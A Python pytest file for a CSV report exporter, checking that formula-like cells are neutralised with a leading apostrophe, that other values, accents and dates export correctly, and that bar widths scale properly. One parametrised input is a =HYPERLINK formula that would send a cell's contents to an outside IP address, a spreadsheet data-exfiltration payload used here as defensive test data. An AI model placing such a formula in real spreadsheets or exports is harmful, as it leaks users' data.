from __future__ import annotations

import csv
from datetime import date
from io import StringIO

import pytest

from kbwizard.reports.tables import BOM, Cell, Column, Row, Table, csv_lines


def table(*cells: tuple[Cell, ...]) -> Table:
    columns = (Column("Busca"), Column("Vezes", "number"))
    return Table("t", "T", "", columns, tuple(Row(one) for one in cells), "", bar=1)


def cell_of(value: Cell) -> str:
    """A cell as a spreadsheet reads it."""
    text = "".join(csv_lines(table((value, 1)))).removeprefix(BOM)
    return list(csv.reader(StringIO(text, newline=""), delimiter=";"))[1][0]


@pytest.mark.parametrize(
    "said",
    [
        "=1+1",
        '=HYPERLINK("http://192.0.2.1/?"&A1)',
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        " =1",
        "\u00a0=1",
        "\n=1",
        "＝1+1",
        "\0=1",
    ],
)
def test_what_a_spreadsheet_would_calculate_is_text(said: str) -> None:
    assert cell_of(said) == "'" + said.replace("\0", "")


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("luz vermelha; e agora?", "luz vermelha; e agora?"),
        ('disse "não"\ne desligou', 'disse "não"\ne desligou'),
        ("691", "691"),
        ("wi-fi = lento", "wi-fi = lento"),
        (-3, "-3"),
        (date(2026, 11, 2), "02/11/2026"),
        (None, ""),
        ("", ""),
    ],
)
def test_everything_else_stays_as_it_is(value: Cell, shown: str) -> None:
    assert cell_of(value) == shown


def test_a_file_opens_in_excel_with_its_accents_and_columns() -> None:
    lines = list(csv_lines(table(("conexão", 2))))

    assert "".join(lines).encode() == b"\xef\xbb\xbfBusca;Vezes\r\nconex\xc3\xa3o;2\r\n"


def test_bars_are_measured_by_the_longest() -> None:
    made = table(("a", 40), ("b", 10), ("c", 0))

    assert [made.share(row) for row in made.rows] == [100, 25, 0]
    assert table(("a", 0)).share(table(("a", 0)).rows[0]) == 0
